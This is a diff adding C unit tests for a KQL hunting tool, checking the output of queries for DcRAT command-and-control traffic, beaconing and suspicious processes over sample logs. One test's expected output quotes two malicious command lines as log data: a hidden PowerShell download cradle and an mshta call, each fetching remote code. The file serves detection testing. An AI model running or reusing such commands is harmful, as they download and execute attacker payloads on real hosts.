@@ -385,3 +385,207 @@ Test(cli, several_files_are_labelled, .timeout = 60){
   free(zB);
   free(zDir);
 }
+
+/****************************************************************** bundled hunts on the samples */
+
+/*
+** Expected outputs of the bundled hunts over tables/samples/. Each was
+** computed from the sample files by an independent script applying the
+** query's logic (filter, projection, ordering, KQL's datetime printing) and
+** matches the counts in tables/samples/README.md: 15 CommonSecurityLog hits
+** (6 beacon + 4 SRV-DB01 + 3 return + 2 probe), 18 DeviceNetworkEvents hits.
+** Output is CSV because standard output is not a terminal.
+*/
+static const char zCslHits[] =
+    "TimeGenerated,SourceIP,DestinationIP,DestinationPort,DeviceAction,Activity\n"
+    "2026-06-04T02:17:05Z,82.23.246.160,10.20.5.11,1433,deny,Connection denied by policy\n"
+    "2026-06-04T02:10:05Z,82.23.246.160,10.20.5.11,1433,deny,Connection denied by policy\n"
+    "2026-06-03T09:54:31Z,10.20.5.11,82.23.246.160,12159,drop,Connection denied by policy\n"
+    "2026-06-03T09:51:31Z,10.20.5.11,82.23.246.160,12159,allow,TRAFFIC end\n"
+    "2026-06-03T09:48:31Z,10.20.5.11,82.23.246.160,12159,allow,TRAFFIC end\n"
+    "2026-06-03T09:45:31Z,10.20.5.11,82.23.246.160,12159,allow,TRAFFIC end\n"
+    "2026-06-03T08:40:10.5850000Z,10.20.1.42,156.247.40.190,12159,deny,Connection denied by policy\n"
+    "2026-06-03T08:35:08.4680000Z,10.20.1.42,156.247.40.190,12159,deny,Connection denied by policy\n"
+    "2026-06-03T08:30:06.3510000Z,10.20.1.42,156.247.40.190,12159,allow,TRAFFIC end\n"
+    "2026-06-03T08:26:40Z,156.247.40.190,10.20.1.42,50112,allow,TRAFFIC end\n"
+    "2026-06-03T08:25:04.2340000Z,10.20.1.42,156.247.40.190,12159,allow,TRAFFIC end\n"
+    "2026-06-03T08:21:40Z,156.247.40.190,10.20.1.42,50111,allow,TRAFFIC end\n"
+    "2026-06-03T08:20:02.1170000Z,10.20.1.42,156.247.40.190,12159,allow,TRAFFIC end\n"
+    "2026-06-03T08:16:40Z,156.247.40.190,10.20.1.42,50110,allow,TRAFFIC end\n"
+    "2026-06-03T08:15:00Z,10.20.1.42,156.247.40.190,12159,allow,TRAFFIC end\n";
+
+Test(cli, dcrat_commonsecuritylog_hunt, .timeout = 60){
+  CliRun r = cliRun("run", "queries/dcrat-commonsecuritylog.kql", "--data", "tables/samples/");
+  expectRc(&r, 0);
+  expectOut(&r, zCslHits);
+  cr_expect_str_eq(r.zErr, "");
+  cliFree(&r);
+}
+
+Test(cli, dcrat_hunt_via_table_option, .timeout = 60){
+  /* the same hunt with the file named explicitly instead of --data */
+  CliRun r = cliRun("run", "--table", "CommonSecurityLog=tables/samples/CommonSecurityLog.csv",
+                    "queries/dcrat-commonsecuritylog.kql");
+  expectRc(&r, 0);
+  expectOut(&r, zCslHits);
+  cliFree(&r);
+}
+
+Test(cli, dcrat_devicenetworkevents_hunt_json, .timeout = 60){
+  CliRun r = cliRun("run", "--format", "json", "--data", "tables/samples/",
+                    "queries/dcrat-devicenetworkevents.kql");
+  expectRc(&r, 0);
+  expectOut(&r,
+    "{\"columns\":[{\"name\":\"Timestamp\",\"type\":\"datetime\"},{\"name\":\"DeviceName\",\"type\":\"string\"},{\"name\":\"RemoteIP\",\"type\":\"string\"},{\"name\":\"RemotePort\",\"type\":\"int\"},{\"name\":\"InitiatingProcessFileName\",\"type\":\"string\"},{\"name\":\"ActionType\",\"type\":\"string\"}],\"rows\":[\n"
+    "[\"2026-06-03T09:54:31Z\",\"srv-db01.contoso.local\",\"82.23.246.160\",12159,\"svchost32.exe\",\"ConnectionSuccess\"],\n"
+    "[\"2026-06-03T09:51:31Z\",\"srv-db01.contoso.local\",\"82.23.246.160\",12159,\"svchost32.exe\",\"ConnectionSuccess\"],\n"
+    "[\"2026-06-03T09:48:31Z\",\"srv-db01.contoso.local\",\"82.23.246.160\",12159,\"svchost32.exe\",\"ConnectionSuccess\"],\n"
+    "[\"2026-06-03T09:45:31Z\",\"srv-db01.contoso.local\",\"82.23.246.160\",12159,\"svchost32.exe\",\"ConnectionSuccess\"],\n"
+    "[\"2026-06-03T09:20:04Z\",\"ws-0142.contoso.local\",\"156.247.40.190\",12159,\"AudioDriver.exe\",\"ConnectionFailed\"],\n"
+    "[\"2026-06-03T09:10:04.1246788Z\",\"ws-0142.contoso.local\",\"156.247.40.190\",12159,\"AudioDriver.exe\",\"ConnectionSuccess\"],\n"
+    "[\"2026-06-03T09:05:04.1245677Z\",\"ws-0142.contoso.local\",\"156.247.40.190\",12159,\"AudioDriver.exe\",\"ConnectionSuccess\"],\n"
+    "[\"2026-06-03T09:00:04.1244566Z\",\"ws-0142.contoso.local\",\"156.247.40.190\",12159,\"AudioDriver.exe\",\"ConnectionSuccess\"],\n"
+    "[\"2026-06-03T08:55:04.1243455Z\",\"ws-0142.contoso.local\",\"156.247.40.190\",12159,\"AudioDriver.exe\",\"ConnectionSuccess\"],\n"
+    "[\"2026-06-03T08:50:04.1242344Z\",\"ws-0142.contoso.local\",\"156.247.40.190\",12159,\"AudioDriver.exe\",\"ConnectionSuccess\"],\n"
+    "[\"2026-06-03T08:45:04.1241233Z\",\"ws-0142.contoso.local\",\"156.247.40.190\",12159,\"AudioDriver.exe\",\"ConnectionSuccess\"],\n"
+    "[\"2026-06-03T08:40:04.1240122Z\",\"ws-0142.contoso.local\",\"156.247.40.190\",12159,\"AudioDriver.exe\",\"ConnectionSuccess\"],\n"
+    "[\"2026-06-03T08:35:04.1239011Z\",\"ws-0142.contoso.local\",\"156.247.40.190\",12159,\"AudioDriver.exe\",\"ConnectionSuccess\"],\n"
+    "[\"2026-06-03T08:30:04.1237900Z\",\"ws-0142.contoso.local\",\"156.247.40.190\",12159,\"AudioDriver.exe\",\"ConnectionSuccess\"],\n"
+    "[\"2026-06-03T08:25:04.1236789Z\",\"ws-0142.contoso.local\",\"156.247.40.190\",12159,\"AudioDriver.exe\",\"ConnectionSuccess\"],\n"
+    "[\"2026-06-03T08:20:04.1235678Z\",\"ws-0142.contoso.local\",\"156.247.40.190\",12159,\"AudioDriver.exe\",\"ConnectionSuccess\"],\n"
+    "[\"2026-06-03T08:15:04.1234567Z\",\"ws-0142.contoso.local\",\"156.247.40.190\",12159,\"AudioDriver.exe\",\"ConnectionSuccess\"],\n"
+    "[\"2026-06-03T07:58:12.5000000Z\",\"ws-0117.contoso.local\",\"82.23.246.160\",80,\"powershell.exe\",\"ConnectionSuccess\"]\n"
+    "]}\n");
+  cliFree(&r);
+}
+
+Test(cli, port_hunt_with_now, .timeout = 60){
+  CliRun r = cliRun("run", "--now", "2026-06-05T00:00:00Z", "--data", "tables/samples/",
+                    "queries/dcrat-port-12159.kql");
+  expectRc(&r, 0);
+  expectOut(&r,
+    "DeviceName,RemoteIP,Connections,FirstSeen,LastSeen,Processes\n"
+    "ws-0142.contoso.local,156.247.40.190,13,2026-06-03T08:15:04.1234567Z,2026-06-03T09:20:04Z,\"[\"\"AudioDriver.exe\"\"]\"\n"
+    "srv-db01.contoso.local,82.23.246.160,4,2026-06-03T09:45:31Z,2026-06-03T09:54:31Z,\"[\"\"svchost32.exe\"\"]\"\n"
+    "ws-0203.contoso.local,45.133.1.7,2,2026-06-04T14:00:00Z,2026-06-04T14:05:00Z,\"[\"\"update.exe\"\"]\"\n");
+  cliFree(&r);
+}
+
+Test(cli, port_hunt_window_moves_with_now, .timeout = 60){
+  /* a week after the last sample event nothing is inside the 7-day window */
+  CliRun r = cliRun("run", "--now", "2026-06-20T00:00:00Z", "--data", "tables/samples/",
+                    "queries/dcrat-port-12159.kql");
+  expectRc(&r, 0);
+  expectOut(&r, "DeviceName,RemoteIP,Connections,FirstSeen,LastSeen,Processes\n");
+  cliFree(&r);
+}
+
+Test(cli, beaconing_hunt, .timeout = 60){
+  CliRun r = cliRun("run", "--data", "tables/samples/", "queries/beaconing-top-talkers.kql");
+  expectRc(&r, 0);
+  expectOut(&r,
+    "RemoteIP,RemotePort,Connections,Devices\n"
+    "13.69.109.131,443,36,7\n"
+    "104.16.132.229,443,32,7\n"
+    "185.199.108.153,443,29,7\n"
+    "151.101.1.69,443,28,7\n"
+    "40.126.32.134,443,22,7\n"
+    "52.96.40.12,443,22,7\n"
+    "13.107.21.200,443,21,7\n"
+    "142.250.74.110,443,21,6\n"
+    "20.190.151.7,443,20,7\n"
+    "156.247.40.190,12159,12,1\n");
+  cliFree(&r);
+}
+
+Test(cli, suspicious_process_hunt, .timeout = 60){
+  CliRun r = cliRun("run", "--data", "tables/samples/", "queries/suspicious-process-network.kql");
+  expectRc(&r, 0);
+  expectOut(&r,
+    "Timestamp,DeviceName,InitiatingProcessFileName,RemoteIP,RemotePort,Cradle,InitiatingProcessCommandLine\n"
+    "2026-06-03T07:58:12.5000000Z,ws-0117.contoso.local,powershell.exe,82.23.246.160,80,true,\"powershell.exe -nop -w hidden -c \"\"IEX (New-Object Net.WebClient).DownloadString('http://82.23.246.160/stage.ps1')\"\"\"\n"
+    "2026-06-02T16:30:00Z,ws-0155.contoso.local,mshta.exe,23.45.67.89,80,true,mshta.exe http://23.45.67.89/a.hta\n");
+  cliFree(&r);
+}
+
+Test(cli, firewall_summary_hunt, .timeout = 60){
+  /* make_set() order is unspecified, so the Ports column is checked as a set */
+  static const struct { const char *zHead; const char *zPorts; const char *zTail; } aRow[] = {
+    {"10.20.1.42,5,3,", "443 12159", ",2026-06-04T06:12:46.1920000Z"},
+    {"10.20.2.3,5,4,", "12159 443 53", ",2026-06-04T17:02:52.9090000Z"},
+    {"10.20.5.11,5,4,", "80 123 12159 53", ",2026-06-05T00:06:32.7720000Z"},
+    {"10.20.1.1,4,4,", "443 123", ",2026-06-04T11:34:54Z"},
+    {"10.20.1.28,3,3,", "53 443 80", ",2026-06-03T17:32:21Z"},
+    {"10.20.1.17,2,2,", "53 443", ",2026-06-04T02:44:52Z"},
+    {"10.20.5.31,2,2,", "80 443", ",2026-06-05T13:30:26Z"},
+    {"82.23.246.160,2,1,", "1433", ",2026-06-04T02:17:05Z"},
+  };
+  CliRun r = cliRun("run", "--data", "tables/samples/", "queries/firewall-blocked-summary.kql");
+  char *zSave = 0, *zLine;
+  int i = -1;
+  expectRc(&r, 0);
+  for(zLine = strtok_r(r.zOut, "\n", &zSave); zLine; zLine = strtok_r(0, "\n", &zSave), i++){
+    if( i<0 ){
+      cr_expect_str_eq(zLine, "SourceIP,Denied,Destinations,Ports,LastSeen");
+      continue;
+    }
+    cr_assert_lt(i, 8, "extra line: %s", zLine);
+    size_t nHead = strlen(aRow[i].zHead), nTail = strlen(aRow[i].zTail), n = strlen(zLine);
+    cr_assert(n > nHead + nTail, "line %d too short: %s", i+1, zLine);
+    cr_expect_eq(strncmp(zLine, aRow[i].zHead, nHead), 0, "line %d: %s", i+1, zLine);
+    cr_expect_str_eq(zLine + n - nTail, aRow[i].zTail, "line %d: %s", i+1, zLine);
+    /* the middle is a JSON array of ports, CSV-quoted when it has commas */
+    char zPorts[100];
+    size_t k = 0;
+    for(const char *z = zLine + nHead; z < zLine + n - nTail && k+1 < sizeof(zPorts); z++){
+      if( *z>='0' && *z<='9' ) zPorts[k++] = *z;
+      else if( *z==',' ) zPorts[k++] = ' ';
+    }
+    zPorts[k] = 0;
+    /* same members, any order */
+    char zA[110], zB[110];
+    snprintf(zA, sizeof(zA), " %s ", zPorts);
+    snprintf(zB, sizeof(zB), " %s ", aRow[i].zPorts);
+    int nA = 0, nB = 0;
+    for(char *z = zA; *z; z++) nA += *z==' ';
+    for(char *z = zB; *z; z++) nB += *z==' ';
+    cr_expect_eq(nA, nB, "line %d ports [%s], expected the set {%s}", i+1, zPorts, aRow[i].zPorts);
+    char *zSave2 = 0;
+    for(char *zTok = strtok_r(zB, " ", &zSave2); zTok; zTok = strtok_r(0, " ", &zSave2)){
+      char zNeedle[20];
+      snprintf(zNeedle, sizeof(zNeedle), " %s ", zTok);
+      cr_expect_not_null(strstr(zA, zNeedle), "line %d ports [%s] lack %s", i+1, zPorts, zTok);
+    }
+  }
+  cr_expect_eq(i, 8, "expected 8 rows, got %d", i);
+  cliFree(&r);
+}
+
+Test(cli, datatable_hunt_needs_no_data, .timeout = 60){
+  /* By hand: WS-0142 has 2 connections, both to a C2 on 12159; SRV-DB01 one,
+  ** to a C2 on 12159; WS-0117 two on 443 (below 1024). Sorted by ToC2 desc. */
+  CliRun r = cliRun("run", "queries/triage-exported-connections.kql");
+  expectRc(&r, 0);
+  expectOut(&r,
+    "Host,Connections,ToC2,HighPorts,LastSeen\n"
+    "WS-0142,2,2,2,2026-06-03T08:20:00Z\n"
+    "SRV-DB01,1,1,1,2026-06-03T09:45:31Z\n"
+    "WS-0117,2,0,0,2026-06-03T10:00:00Z\n");
+  cliFree(&r);
+}
+
+Test(cli, every_bundled_hunt_runs, .timeout = 120){
+  /* all of queries/ in one invocation: exit 0, nothing on stderr, one
+  ** labelled result per file */
+  CliRun r = cliRun("run", "--now", "2026-06-05T00:00:00Z", "--data", "tables/samples/",
+                    "queries/beaconing-top-talkers.kql", "queries/dcrat-commonsecuritylog.kql",
+                    "queries/dcrat-devicenetworkevents.kql", "queries/dcrat-port-12159.kql",
+                    "queries/firewall-blocked-summary.kql", "queries/suspicious-process-network.kql",
+                    "queries/triage-exported-connections.kql");
+  int nLabel = 0;
+  expectRc(&r, 0);
+  cr_expect_str_eq(r.zErr, "");
+  for(const char *z = r.zOut; (z = strstr(z, "==> queries/"))!=0; z++) nLabel++;
+  cr_expect_eq(nLabel, 7);
+  cliFree(&r);
+}
